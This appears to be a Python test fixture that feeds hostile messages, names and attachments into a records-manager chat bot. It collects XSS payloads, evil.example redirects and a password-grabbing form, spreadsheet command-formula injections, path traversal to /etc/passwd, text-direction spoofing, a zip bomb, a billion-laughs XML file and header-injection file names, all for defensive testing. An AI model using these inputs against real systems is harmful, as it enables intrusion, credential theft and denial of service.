"""What people send who wish a records manager ill: as texts, names, groups and attachments."""

from __future__ import annotations

import io
import zipfile
from typing import Protocol

ACT = "window.pwned=1;alert(1)"
"""What scripts would do; :mod:`tests.browser.window` sees either of it."""

SCRIPTS = (
    f"<script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f'"><svg/onload="{ACT}">',
    f"'><body onload='{ACT}'>",
    f"</textarea></title></style><script>{ACT}</script>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f'<a href="javascript:{ACT}" autofocus onfocus={ACT} tabindex=1>x</a>',
    f"<details open ontoggle={ACT}><summary>open</summary></details>",
    "<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password autofocus>",
    "<style>*{display:none!important}</style><plaintext>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    f"javascript:{ACT} and data:text/html,<script>{ACT}</script> and http://xn--e1awd7f.com/",
    "https://bank.example@evil.example/ http://еvil.example/ https://[::1/ ftp://x",
    "<!-- ]]> --> &lt;b&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
)
FORMULAE = (
    '=HYPERLINK("https://evil.example/","decision")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1;"=2+2",=3+3\r\n=4+4',
    "\uff1dHYPERLINK(1)",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "C:\\CON",
    "/etc/shadow\\x00.png",
    "file:///etc/passwd",
    "bag/../../data/%2e%2e%2fmanifest-sha256.txt",
)
UNSEEN = (
    "pay \u202e000,1£\u202c to \u2066nobody\u2069\u2067",
    "a\u200bp\u200cp\u2060r\ufeffo\u00advd\u034f \u3164\u2800",
    "\x01\x08\x0b\x1b[31mred\x1b[0m\x7f\x85\u2028\u2029",
    "Z" + "\u0335\u0316\u0340\u0327" * 60 + "algo",
    "\U000e0041\U000e0042\U000e007f \ud7ff \ue000 \U0010ffff \ufffe",
    "\u0627\u0644\u0642\u0631\u0627\u0631 \u05d4\u05d7\u05dc\u05d8\u05d4 (decided) 1 2 3",
)
HUGE = (
    "W" * 4000,
    "\u202e" * 1500,
    "a\n" * 1500,
    "https://" + "w" * 3000 + ".example/" + "p" * 900,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 300,
)
TEXTS = (*SCRIPTS, *FORMULAE, *PATHS, *UNSEEN, *HUGE)

NAMES = (
    f"<img src=x onerror={ACT}>",
    "=cmd|' /C calc'!A0",
    "\u202egnihtyna eb dluoc siht\u202c",
    "N" * 255,
    "\u200b",
)
"""First names: one sender each."""

ROOM = "hostile"
LONG_ROOM = "long"
GROUPS = {
    ROOM: f"<script>{ACT}</script> & 'Sons' \"Ltd\"",
    LONG_ROOM: "G" * 120,
}
"""As the settings name them."""

TITLE = "\u202eevil\u202c"
"""What the platform calls them has this before it: settings may not turn the direction of text."""


def _bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as inner:
        for number in range(4):
            inner.writestr(f"../../{number}.txt", bytes(8 * 1024 * 1024))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(16):
            bomb.writestr(f"{number}.zip", packed.getvalue())
    return outer.getvalue()


FILES = (
    ("bomb.zip", "application/zip", _bomb()),
    (
        "plan.svg",
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ACT}</script></svg>'.encode(),
    ),
    (
        "minutes.html",
        "text/html",
        f"<!DOCTYPE html><html><body onload='{ACT}'><script>{ACT}</script></body></html>".encode(),
    ),
    ("photo.jpg", "image/jpeg", f"<html><script>{ACT}</script></html>".encode()),
    ("gif.js", "text/javascript", f"GIF89a=1;{ACT}//".encode()),
    ("../../../../tmp/passwd", "text/plain", b"root:x:0:0"),
    ("annex\u202efdp.exe", "application/pdf", b"MZ\x90\x00"),
    ('a"; filename="b.html', "text/html;charset=utf-7", b"+ADw-script+AD4-"),
    ("CON\r\nset-cookie: a=b.txt", "text/plain\r\nx: y", b"device"),
    (f"<img src=x onerror={ACT}>.png", "image/png", b"\x89PNG\r\n\x1a\nno picture"),
    ("L" * 300 + ".pdf", "application/pdf", b"%PDF-1.7\n"),
    (
        "laugh.xml",
        "application/xml",
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
    ),
)
"""Name, declared type and bytes of attachments."""


class Sender(Protocol):
    """Who sends for people."""

    def say(self, room: str, who: str, text: str) -> None:
        """A text."""

    def document(self, room: str, who: str, name: str, mime: str, data: bytes) -> None:
        """A file, with its name as its caption."""


def person(number: int) -> str:
    """By what name the Bot API server knows a hostile person."""
    return f"hostile-{number}"


def send_hostile(sender: Sender) -> None:
    """All of it into one group, each from the next person; a little into the other."""
    for number, text in enumerate(TEXTS):
        sender.say(ROOM, person(number % len(NAMES)), text)
    for number, (name, mime, data) in enumerate(FILES):
        sender.document(ROOM, person(number % len(NAMES)), name, mime, data)
    sender.say(LONG_ROOM, person(0), f"We have decided to approve {'V' * 400}.")
